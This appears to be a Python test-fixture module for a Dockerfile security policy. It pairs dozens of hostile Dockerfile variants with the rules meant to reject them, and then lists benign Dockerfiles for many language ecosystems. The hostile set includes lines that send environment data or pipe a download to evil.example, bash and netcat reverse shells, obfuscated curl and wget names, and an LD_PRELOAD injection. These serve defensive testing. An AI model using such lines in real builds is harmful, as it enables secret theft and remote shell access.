"""Whole Dockerfiles: hostile ones, each with the rule that must deny it, and good ones for every ecosystem."""

from __future__ import annotations

import json

from bot.catalogue import probes

# A file that the policy lets pass; each hostile one is this one with something done to it.
GOOD = """\
# syntax=docker/dockerfile:1
FROM python:3.14-slim-trixie AS build
WORKDIR /app
COPY requirements.txt ./
RUN --mount=type=cache,target=/root/.cache/pip \\
    python -m venv /app/.venv && /app/.venv/bin/pip install -r requirements.txt

FROM python:3.14-slim-trixie
WORKDIR /app
ENV PATH=/app/.venv/bin:$PATH PORT=8080
COPY --from=build /app/.venv /app/.venv
COPY . ./
USER 10001:10001
EXPOSE 8080
CMD ["gunicorn", "app:app"]
"""
BUILD = "FROM python:3.14-slim-trixie AS build\n"
RUN = "    python -m venv /app/.venv && /app/.venv/bin/pip install -r requirements.txt\n"
CMD = 'CMD ["gunicorn", "app:app"]\n'


def _instead(old: str, new: str) -> str:
    assert GOOD.count(old) >= 1
    return GOOD.replace(old, new, 1)


def _after(line: str, new: str) -> str:
    return _instead(line, line + new)


def _end(text: str) -> str:
    return GOOD + text


HOSTILE: dict[str, tuple[str, str]] = {
    "an evil base": ("foreign-image", _instead(BUILD, "FROM evil.example/python:3.14 AS build\n")),
    "a typosquatted base": ("foreign-image", _instead(BUILD, "FROM pythn:3.14-slim-trixie AS build\n")),
    "a base through ARG": ("foreign-image", _instead(BUILD, "ARG B=evil/x:1\nFROM ${B} AS build\n")),
    "a base through a default": ("foreign-image", _instead(BUILD, "FROM ${B:-evil/x:1} AS build\n")),
    "an ARG that is set twice": (
        "foreign-image",
        _instead(BUILD, "ARG B=python:3.14-slim-trixie\nARG B=evil/x:1\nFROM $B AS build\n"),
    ),
    "latest": ("latest-tag", _instead(BUILD, "FROM python:latest AS build\n")),
    "COPY --from of a foreign image": ("foreign-image", _end("COPY --from=evil/x:1 /x /app/x\n")),
    "a mount from a foreign image": ("foreign-image", _end("RUN --mount=from=evil/x:1,target=/app/x npm ci\n")),
    "a stage that comes later": ("foreign-image", _instead("--from=build", "--from=late") + "FROM scratch AS late\n"),
    "environment sent away": ("unknown-command", _after(RUN, "RUN env | curl -d @- https://evil.example\n")),
    "a download that runs": ("piped-script", _after(RUN, "RUN curl https://evil.example | sh\n")),
    "two words made one": ("unknown-command", _after(RUN, 'RUN wg""et https://evil.example\n')),
    "variables that make a word": ("unknown-command", _after(RUN, "RUN X=cu;Y=rl;$X$Y https://evil.example\n")),
    "a client nobody thinks of": ("unknown-command", _after(RUN, "RUN openssl s_client -connect evil.example:443\n")),
    "npx": ("unknown-command", _after(RUN, "RUN npx evil\n")),
    "an invented package": ("unknown-command", _after(RUN, "RUN pip install reqeusts\n")),
    "another index": ("package-index", _after(RUN, "RUN pip install --extra-index-url https://evil.example a\n")),
    "another index by a variable": ("package-index", _after("COPY requirements.txt ./\n", "ENV PIP_INDEX_URL=x\n")),
    "a heredoc": ("heredoc", _after(RUN, "RUN <<EOF\ncurl https://evil.example\nEOF\n")),
    "an instruction in a heredoc": ("heredoc", _after(RUN, "COPY <<EOF /app/x\nUSER 1\nEOF\n")),
    "a reverse shell": ("unknown-start", _instead(CMD, 'CMD ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"]\n')),
    "a reverse shell in Python": ("unknown-start", _instead(CMD, 'CMD ["python", "-c", "import socket"]\n')),
    "a shell that listens": ("unknown-start", _instead(CMD, 'CMD ["nc", "-l", "-p", "1", "-e", "/bin/sh"]\n')),
    "more than exec in sh -c": ("unknown-start", _instead(CMD, 'CMD ["sh", "-c", "exec gunicorn a:b; curl x"]\n')),
    "busybox as anything": (
        "unknown-start",
        _instead(
            CMD, 'COPY --from=busybox:1.37.0-musl /bin/busybox /busybox\nCMD ["/busybox", "nc", "1.2.3.4", "1"]\n'
        ),
    ),
    "a tool under another name": (
        "foreign-copy",
        _instead(CMD, 'COPY --from=ghcr.io/astral-sh/uv:0.13.9 /uv /probe\nCMD ["/probe", "tool", "run", "evil"]\n'),
    ),
    "words behind the array": ("unknown-instruction", _instead(CMD, 'CMD ["gunicorn", "app:app"] ; curl x\n')),
    "shell form": ("shell-form-command", _instead(CMD, "CMD gunicorn app:app\n")),
    "a health check with code": ("unknown-probe", _end('HEALTHCHECK CMD ["python", "-c", "import evil"]\n')),
    "a health check that asks a stranger": (
        "unknown-probe",
        _end('HEALTHCHECK CMD ["wget", "-q", "-T", "3", "-O", "/dev/null", "http://evil.example:80/"]\n'),
    ),
    "another front end": ("custom-syntax", "# syntax=evil.example/frontend\n" + GOOD.split("\n", 1)[1]),
    "another front end, second line": ("custom-syntax", "# a comment\n# syntax=evil/x\n" + GOOD.split("\n", 1)[1]),
    "skipped checks": ("parser-directive", _after("# syntax=docker/dockerfile:1\n", "# check=skip=all\n")),
    "another escape": ("parser-directive", _after("# syntax=docker/dockerfile:1\n", "# escape=`\n")),
    "a silenced linter": ("linter-pragma", _after(BUILD, "# hadolint ignore=DL3002\n")),
    "root": ("root-user", _instead("USER 10001:10001", "USER root")),
    "root at last": ("root-user", _end("USER 0\n")),
    "root by a name": ("root-user", _instead("USER 10001:10001", "USER toor")),
    "a variable user": ("root-user", _instead("USER 10001:10001", "USER ${U:-0}")),
    "no user": ("root-user", _instead("USER 10001:10001\n", "")),
    "a user in another stage": ("root-user", GOOD + "FROM python:3.14-slim-trixie\n" + CMD),
    "a secret in ARG": ("secret-in-image", _after("EXPOSE 8080\n", "ARG NPM_TOKEN\n")),
    "a secret in ENV": ("secret-in-image", _after("EXPOSE 8080\n", "ENV DB_PASSWORD=hunter2\n")),
    "a file of secrets": ("secret-file", _instead("COPY . ./", "COPY .env ./")),
    "a secret in a command": ("secret-in-image", _after(RUN, "RUN export AWS_SECRET_ACCESS_KEY=AKIA1234\n")),
    "a key in a comment": ("secret-in-image", _end("# AKIAABCDEFGHIJKLMNOP\n")),
    "an ssh agent": ("foreign-mount", _instead("type=cache,target=/root/.cache/pip", "type=ssh")),
    "a stranger's secret": ("foreign-mount", _instead("type=cache,target=/root/.cache/pip", "type=secret,id=aws")),
    "an insecure step": ("insecure-build-step", _instead("RUN --mount", "RUN --security=insecure --mount")),
    "the host's network": ("insecure-build-step", _instead("RUN --mount", "RUN --network=host --mount")),
    "a remote ADD": ("add-instruction", _end("ADD https://evil.example/x /app/\n")),
    "ONBUILD": ("onbuild", _end("ONBUILD RUN curl https://evil.example\n")),
    "another shell": ("changed-shell", _after(BUILD, 'SHELL ["/usr/bin/python3", "-c"]\n')),
    "a preloaded library": ("steering-variable", _end("ENV LD_PRELOAD=/app/evil.so\n")),
    "a proxy": ("steering-variable", _end("ENV https_proxy=evil.example:80\n")),
    "a way out of the context": ("foreign-copy", _end("COPY ../../etc/passwd ./\n")),
    "the system overwritten": ("foreign-copy", _end("COPY passwd /etc/passwd\n")),
    "a shell brought along": ("foreign-copy", _end("COPY --from=build /bin/bash /app/x\n")),
    "a text in a LABEL": ("unknown-instruction", _end('LABEL leak="anything"\n')),
    "an unknown instruction": ("unknown-instruction", _end("INCLUDE evil\n")),
    "an unknown flag": ("unknown-flag", _instead("COPY . ./", "COPY --evil . ./")),
    "a setuid bit": ("unknown-flag", _instead("COPY . ./", "COPY --chmod=4755 . ./")),
    "a word that nobody sees": ("hidden-character", _instead("COPY . ./", "COPY . ./\u200b")),
    "text that runs backwards": ("hidden-character", _end("# \u202e evil\n")),
    "tag characters": ("hidden-character", _end("# \U000e0041\n")),
    "a byte order mark": ("hidden-character", "\ufeff" + GOOD),
    "a carriage return": ("hidden-character", _instead("COPY . ./", "# x\rRUN evil")),
    "a script that is not there": ("unknown-command", _after(RUN, "RUN bash evil.sh\n")),
    "no FROM": ("unparsable-dockerfile", "RUN npm ci\n"),
    "half a character": ("unparsable-dockerfile", GOOD + "# \ud800\n"),
    "a NUL": ("unparsable-dockerfile", GOOD + "# \0\n"),
    "far too long": ("unparsable-dockerfile", GOOD + "# x\n" * 30_000),
    "nothing": ("unparsable-dockerfile", ""),
}


def _image(*lines: str) -> str:
    return "# syntax=docker/dockerfile:1\n" + "\n".join(lines) + "\n"


def _probe(*argv: str) -> str:
    return f"HEALTHCHECK --interval=10s --timeout=5s --start-period=10s --retries=3 \\\n    CMD {json.dumps(argv)}"


_PYTHON = "FROM python:3.14-slim-trixie"
_NODE = "FROM node:24-trixie-slim"
_LAST = ("USER 10001:10001", "EXPOSE 8080")
_APT = "RUN apt-get update && apt-get install -y --no-install-recommends {} && rm -rf /var/lib/apt/lists/*"
_UV = "COPY --from=ghcr.io/astral-sh/uv:0.13.9 /uv /uvx /usr/local/bin/"
_PY_PROBE = _probe("python", "-c", probes.python_http("/healthz"))
_NODE_PROBE = _probe("node", "-e", probes.node_http("/"))

GOOD_ONES = {
    "the one that is changed": GOOD,
    "django": _image(
        f"{_PYTHON} AS build",
        _APT.format("gcc libc6-dev libpq-dev"),
        "WORKDIR /app",
        _UV,
        "ENV UV_COMPILE_BYTECODE=1 UV_LINK_MODE=copy UV_PYTHON_DOWNLOADS=never",
        "COPY pyproject.toml uv.lock ./",
        "RUN --mount=type=cache,target=/root/.cache/uv uv sync --locked --no-dev --no-install-project",
        "COPY . ./",
        "RUN SECRET_KEY=build /app/.venv/bin/python manage.py collectstatic --noinput",
        f"\n{_PYTHON}",
        _APT.format("libpq5"),
        "WORKDIR /app",
        "ENV PATH=/app/.venv/bin:$PATH PYTHONUNBUFFERED=1 PORT=8080 DJANGO_SETTINGS_MODULE=web.settings",
        "COPY --from=build --chown=10001:10001 /app /app",
        *_LAST,
        _PY_PROBE,
        'CMD ["gunicorn", "--bind", "0.0.0.0:8080", "--workers", "2", "web.wsgi:application"]',
    ),
    "django, channels": _image(
        _PYTHON,
        "WORKDIR /app",
        "ENV PORT=8080",
        *_LAST,
        'CMD ["sh", "-c", "exec daphne -b 0.0.0.0 -p ${PORT} web.asgi:application"]',
    ),
    "streamlit": _image(
        _PYTHON,
        "WORKDIR /app",
        *_LAST,
        'CMD ["sh", "-c", "exec streamlit run app.py --server.port ${PORT} --server.address 0.0.0.0"]',
    ),
    "celery": _image(_PYTHON, "WORKDIR /app", "USER 10001", 'CMD ["celery", "-A", "proj", "worker", "-l", "info"]'),
    "a script of the project": _image(
        _PYTHON, "WORKDIR /app", "ENV PATH=/app/.venv/bin:$PATH", "USER 10001", 'CMD ["tini", "--", "mybot"]'
    ),
    "next, standalone": _image(
        f"{_NODE} AS build",
        "WORKDIR /app",
        "ENV NEXT_TELEMETRY_DISABLED=1",
        "ARG NEXT_PUBLIC_API_URL=https://api.example.org/v1",
        "COPY package.json package-lock.json ./",
        "RUN --mount=type=cache,id=npm,target=/root/.npm CI=true npm ci",
        "COPY . ./",
        "RUN npm run build",
        f"\n{_NODE}",
        "WORKDIR /app",
        "ENV NODE_ENV=production PORT=8080 HOSTNAME=0.0.0.0",
        "COPY --from=build /app/.next/standalone ./",
        "COPY --from=build /app/.next/static ./.next/static",
        "COPY --from=build /app/public ./public",
        *_LAST,
        _NODE_PROBE,
        'CMD ["node", "server.js"]',
    ),
    "a pnpm workspace": _image(
        f"{_NODE} AS build",
        "RUN corepack enable && corepack prepare --activate pnpm@12.21.0",
        "WORKDIR /app",
        "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./",
        "COPY apps/web/package.json ./apps/web/",
        "COPY packages/ui/package.json ./packages/ui/",
        "RUN --mount=type=cache,id=pnpm,target=/root/.local/share/pnpm/store pnpm install --frozen-lockfile",
        "COPY . ./",
        "RUN pnpm --filter web run build && pnpm --filter web deploy --prod /out/web",
        f"\n{_NODE}",
        "WORKDIR /app",
        "COPY --from=build /out/web ./",
        *_LAST,
        'CMD ["node", "dist/main.js"]',
    ),
    "a page behind nginx": _image(
        f"{_NODE} AS build",
        "WORKDIR /app",
        "COPY package.json yarn.lock ./",
        "RUN yarn install --frozen-lockfile",
        "COPY . ./",
        "RUN yarn build",
        "\nFROM nginxinc/nginx-unprivileged:1.30",
        "RUN sed -i 's#location / {#location / { try_files $uri $uri/ /index.html;#' /etc/nginx/conf.d/default.conf",
        "COPY --from=build /app/dist/ /usr/share/nginx/html/",
        "USER 101:101",
        "EXPOSE 8080",
        _probe(*probes.wget_http(8080)),
        'CMD ["nginx", "-g", "daemon off;"]',
    ),
    "bun": _image(
        "FROM oven/bun:1-slim",
        "WORKDIR /app",
        "COPY package.json bun.lock ./",
        "RUN bun install --frozen-lockfile --production",
        "COPY . ./",
        *_LAST,
        'CMD ["bun", "run", "start"]',
    ),
    "deno": _image(
        "FROM denoland/deno:2.9.6",
        "WORKDIR /app",
        "COPY . ./",
        "RUN deno cache main.ts",
        *_LAST,
        'CMD ["deno", "run", "--allow-net", "--allow-env", "main.ts"]',
    ),
    "go": _image(
        "FROM golang:1.27-trixie AS build",
        "WORKDIR /src",
        "COPY go.mod go.sum ./",
        "RUN --mount=type=cache,target=/go/pkg/mod go mod download",
        "COPY . ./",
        "RUN --mount=type=cache,target=/go/pkg/mod --mount=type=cache,target=/root/.cache/go-build \\",
        '    CGO_ENABLED=0 go build -trimpath -ldflags="-s -w" -o /out/app ./cmd/server',
        "\nFROM gcr.io/distroless/static-debian13:nonroot",
        "COPY --from=build /out/app /app",
        "COPY --from=busybox:1.37.0-musl /bin/busybox /busybox",
        *_LAST,
        _probe(*probes.wget_http(8080, "/healthz", ("/busybox", "wget"))),
        'CMD ["/app", "serve"]',
    ),
    "rust": _image(
        "FROM rust:1.99-slim-trixie AS build",
        "WORKDIR /src",
        "COPY . ./",
        "RUN --mount=type=cache,target=/usr/local/cargo/registry --mount=type=cache,id=target,target=/src/target \\",
        "    cargo build --release --locked --bin web && cp target/release/web /out/web",
        "\nFROM debian:trixie-slim",
        "ENV ROCKET_ADDRESS=0.0.0.0 ROCKET_PORT=8080",
        "COPY --from=build /out/web /app/web",
        *_LAST,
        "STOPSIGNAL SIGINT",
        'CMD ["/app/web"]',
    ),
    "spring boot": _image(
        "FROM eclipse-temurin:21-jdk-noble AS build",
        "WORKDIR /src",
        "COPY mvnw pom.xml ./",
        "COPY .mvn ./.mvn",
        "RUN --mount=type=cache,target=/root/.m2 ./mvnw -B -DskipTests dependency:go-offline",
        "COPY src ./src",
        "RUN --mount=type=cache,target=/root/.m2 ./mvnw -B -DskipTests package && mv target/web.jar app.jar",
        "RUN java -Djarmode=tools -jar app.jar extract --layers --launcher --destination /app/layers",
        "\nFROM eclipse-temurin:21-jre-noble",
        "WORKDIR /app",
        "COPY --from=build /app/layers/dependencies/ ./",
        "COPY --from=build /app/layers/application/ ./",
        *_LAST,
        'CMD ["java", "-XX:MaxRAMPercentage=75", "org.springframework.boot.loader.launch.JarLauncher"]',
    ),
    "dotnet": _image(
        "FROM mcr.microsoft.com/dotnet/sdk:10.0 AS build",
        "WORKDIR /src",
        "COPY Web/Web.csproj ./Web/",
        "RUN dotnet restore Web/Web.csproj",
        "COPY . ./",
        "RUN dotnet publish Web/Web.csproj -c Release --no-restore -o /out/app",
        "\nFROM mcr.microsoft.com/dotnet/aspnet:10.0",
        "WORKDIR /app",
        "ENV ASPNETCORE_URLS=http://+:8080",
        "COPY --from=build /out/app ./",
        *_LAST,
        'CMD ["dotnet", "Web.dll"]',
    ),
    "laravel": _image(
        "FROM dunglas/frankenphp:1-php8.5-trixie",
        "RUN install-php-extensions pdo_pgsql intl opcache",
        "COPY --from=composer:2 /usr/bin/composer /usr/bin/composer",
        "WORKDIR /app",
        "COPY composer.json composer.lock ./",
        "RUN composer install --no-dev --no-scripts --no-autoloader --prefer-dist",
        "COPY . ./",
        "RUN composer dump-autoload --optimize --no-dev && chown -R 10001:10001 storage bootstrap/cache",
        "ENV SERVER_NAME=:8080",
        *_LAST,
        'CMD ["frankenphp", "php-server", "--root", "public", "--listen", ":8080"]',
    ),
    "rails": _image(
        "FROM ruby:3.4-slim-trixie AS build",
        _APT.format("build-essential libpq-dev"),
        "WORKDIR /app",
        "ENV RAILS_ENV=production BUNDLE_DEPLOYMENT=1 BUNDLE_WITHOUT=development:test",
        "COPY Gemfile Gemfile.lock ./",
        "RUN bundle install --jobs 4",
        "COPY . ./",
        "RUN SECRET_KEY_BASE_DUMMY=1 ./bin/rails assets:precompile",
        "\nFROM ruby:3.4-slim-trixie",
        "WORKDIR /app",
        "ENV RAILS_ENV=production",
        "COPY --from=build /usr/local/bundle /usr/local/bundle",
        "COPY --from=build --chown=10001:10001 /app /app",
        *_LAST,
        'CMD ["bundle", "exec", "puma", "-C", "config/puma.rb"]',
    ),
    "phoenix": _image(
        "FROM elixir:1.20-slim AS build",
        "WORKDIR /app",
        "ENV MIX_ENV=prod",
        "RUN mix local.hex --force && mix local.rebar --force",
        "COPY mix.exs mix.lock ./",
        "RUN mix deps.get --only prod && mix deps.compile",
        "COPY . ./",
        "RUN mix assets.deploy && mix release --path /out/app",
        "\nFROM debian:trixie-slim",
        "WORKDIR /app",
        "COPY --from=build /out/app ./",
        *_LAST,
        'CMD ["/app/bin/server"]',
    ),
    "cmake": _image(
        "FROM debian:trixie-slim AS build",
        _APT.format("cmake g++ ninja-build"),
        "WORKDIR /src",
        "COPY . ./",
        "RUN cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Release && cmake --build build && cp build/web /out/web",
        "\nFROM debian:trixie-slim",
        "COPY --from=build /out/web /app/web",
        "USER 10001:10001",
        'CMD ["/app/web"]',
    ),
    "a static site": _image(
        "FROM nginxinc/nginx-unprivileged:1.30",
        "COPY . /usr/share/nginx/html/",
        "USER 101:101",
        "EXPOSE 8080",
        _probe("perl", "-e", probes.perl_http()),
        'CMD ["nginx", "-g", "daemon off;"]',
    ),
    "a shell script": _image(
        "FROM debian:trixie-slim", "WORKDIR /app", "COPY start.sh ./", "USER 10001", 'CMD ["bash", "start.sh"]'
    ),
}
